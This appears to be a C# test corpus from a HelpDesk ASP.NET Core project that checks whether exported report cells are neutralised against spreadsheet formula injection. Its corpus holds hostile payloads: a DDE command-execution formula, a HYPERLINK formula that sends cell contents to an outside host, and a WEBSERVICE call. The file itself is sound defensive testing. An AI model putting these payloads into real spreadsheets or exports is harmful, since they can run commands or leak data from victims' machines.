using System.Globalization;

namespace HelpDesk.AspNetCore.Tests.Reports;

/// <summary>Texts that spreadsheets take for formulas, and some that they must not be mistaken for.</summary>
internal static class FormulaCorpus
{
    private const string Signs = "=+-@＝＋－＠﹦﹢﹣﹫−";

    public static readonly IReadOnlyList<string> Harmless =
    [
        "Plain", "1=1", "a=b", "C++", "e-mail", "5 > 3", "a, b", "'quoted'", "Größe \uD83D\uDD25", "a;b", "a; b=c", ";", "\"", "\"\"", "a\"b", "a,=1+1", "a,\"=1\"", "\"a\",=1+1,\"b\"",
    ];

    public static readonly IReadOnlyList<string> Texts =
    [
        .. Harmless,
        "=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://example.com?\"&A1,\"click\")", "=WEBSERVICE(\"http://example.com\")", "@import", "+4930123456", "-",
        "＝1+1", "＋1", "－1", "＠SUM(1)", "﹦1", "−1+1", " =1+1", "\"=1+1\"", "\"\"=1+1", "'=1+1", "' =1", "“=1+1”", "« -1", "\u200B=1", "\uFEFF=1", "\u00A0=1", "\u3000＝1", "\u2060\u200D+1", "`=1",
        "a;=1+1", "a; =1+1;b", "a;\"=1+1\"", "a;;@x", ";=1", "a;＝1", ",=1", "\",=1", "a\",=1+1,\"b", "a\t=1", "a\n=1", "a\r\n-1;=2",
        "=\uD83D\uDD25",
    ];

    /// <summary>The same text as a category, which may have no control characters.</summary>
    public static string? AsCategory(string text) => text.Any(char.IsControl) ? null : text;

    /// <summary>The text without the apostrophes that make it inert: those before a sign.</summary>
    public static string WithoutGuard(string cell)
    {
        // What follows a guard is what would be a formula without it.
        for (var i = cell.Length - 1; i >= 0; i--)
        {
            if (cell[i] == '\'' && IsCellStart(cell, i) && IsFormula(cell[(i + 1)..]))
                cell = cell.Remove(i, 1);
        }

        return cell;
    }

    public static void AssertInert(string cell) => Assert.False(IsFormula(cell) && !cell.TrimStart().StartsWith('\''), $"A formula: {cell}");

    private static bool IsCellStart(string cell, int i) => i == 0 || cell[i - 1] is ';' or '\t' or '\r' or '\n';

    private static bool IsFormula(string text)
    {
        var first = text.FirstOrDefault(c => !char.IsWhiteSpace(c) && !char.IsControl(c) && CharUnicodeInfo.GetUnicodeCategory(c) != UnicodeCategory.Format && !"\"'`“”«»".Contains(c, StringComparison.Ordinal));
        return first != default && Signs.Contains(first, StringComparison.Ordinal);
    }
}
